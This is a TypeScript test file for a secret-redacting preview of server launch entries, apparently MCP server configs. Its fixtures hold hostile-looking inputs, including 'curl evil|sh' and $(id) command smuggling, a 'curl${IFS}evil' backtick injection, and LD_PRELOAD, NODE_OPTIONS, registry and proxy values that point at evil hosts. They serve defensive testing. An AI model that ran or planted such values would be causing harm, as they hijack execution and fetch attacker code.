import { describe, expect, test } from "vitest";
import { previewServerEntry } from "../../src/core/preview-server-entry.ts";

const token = "a1B2c3D4e5F6g7H8i9J0";
const known = "ghp_abcDEF1234567890abcDEF1234567890abcd";

describe("what somebody decides by", () => {
  test.each([
    ["sh", ["-c", 'API_KEY="$(id > /tmp/x)" exec npx good']],
    ["sh", ["-c", "TOKEN=`id` x"]],
    ["sh", ["-c", "PASSWORD=a;curl evil|sh"]],
    ["npx", ["-y", "--auth", "evil-package", "good"]],
    ["npx", ["-y", "--auth", "a1b2c3d4e5f6g7h8", "good"]],
    ["npx", ["--yes", "true", "--auth", "a1b2c3d4e5f6g7h8"]],
    ["x", ["--key", "./evil.js"]],
    ["x", ["--token=https://evil.example/a"]],
    ["npx", ["-y", "--key=x`curl${IFS}evil`"]],
    ["node", ["--require", "./evil.js", "good.js"]],
  ])("is all of %s %j", (command, args) => {
    expect(previewServerEntry({ command, args })).toEqual({ command, args });
  });

  test.each([
    ["npx", ["-y", "good", "--api-key", token], ["-y", "good", "--api-key", "[redacted]"]],
    ["x", [`--token=${token}`], ["--token=[redacted]"]],
    ["x", ["TOKEN=hunter2"], ["TOKEN=[redacted]"]],
    [
      "x",
      ["--header", `Authorization: Bearer ${token}`],
      ["--header", "Authorization: Bearer [redacted]"],
    ],
    ["x", [known], ["[redacted]"]],
    ["x", ["postgres://u:pw@h/db"], ["postgres://u:[redacted]@h/db"]],
    ["sh", ["-c", `TOKEN=${token} exec good`], ["-c", "TOKEN=[redacted] exec good"]],
    ["sh", ["-c", `x ${known}; y`], ["-c", "x [redacted]; y"]],
  ])("lacks one token of %s %j and no more", (command, args, shown) => {
    expect(previewServerEntry({ command, args })).toEqual({ command, args: shown });
  });

  test("holds each variable that steers a program, and hides those that are secrets", () => {
    const steering = {
      NODE_OPTIONS: "--require /tmp/evil.js",
      PATH: "/tmp/evil:/bin",
      LD_PRELOAD: "/tmp/evil.so",
      npm_config_registry: "https://evil.example",
      https_proxy: "http://evil.example",
      GIT_SSH_COMMAND: "evil",
      ONEDOOR_TOKEN: "x",
      MODE: "fast",
      API_KEY: "$(id)",
    };
    const env = { ...steering, GITHUB_TOKEN: token, DB_PASSWORD: "hunter2" };
    expect(previewServerEntry({ command: "x", env })["env"]).toEqual({
      ...steering,
      GITHUB_TOKEN: "[redacted]",
      DB_PASSWORD: "[redacted]",
    });
  });

  test("holds a variable that the command line takes up", () => {
    const env = { SECRET: "evil-package" };
    const entry = { command: "sh", args: ["-c", "npx -y $SECRET"], env };
    expect(previewServerEntry(entry)).toEqual(entry);
  });

  test("holds all references", () => {
    const entry = {
      url: "https://h/${secret:a/B}",
      headers: { Authorization: "Bearer ${secret:a/B}" },
    };
    expect(previewServerEntry(entry)).toEqual(entry);
  });
});

const remote = (args: string[]) => ({
  command: "npx",
  args,
  env: { AUTH: "Bearer made-up-word" },
});

test("a variable that a header alone takes up is no part of what runs", () => {
  const header = remote(["mcp-remote", "https://x.example", "--header", "Authorization:${AUTH}"]);
  expect(previewServerEntry(header)).toMatchObject({ env: { AUTH: "Bearer [redacted]" } });
  const kept = remote(["mcp-remote", "--header", "Authorization:${ONEDOOR_LITERAL:-$}{AUTH}"]);
  expect(previewServerEntry(kept)).toMatchObject({ env: { AUTH: "Bearer [redacted]" } });
  const named = { command: "x", args: [], env: { AUTH_HEADER: "Bearer made-up-word" } };
  expect(previewServerEntry(named)).toMatchObject({ env: { AUTH_HEADER: "Bearer [redacted]" } });
  const used = remote(["-y", "${AUTH}"]);
  expect(previewServerEntry(used)).toEqual(used);
});
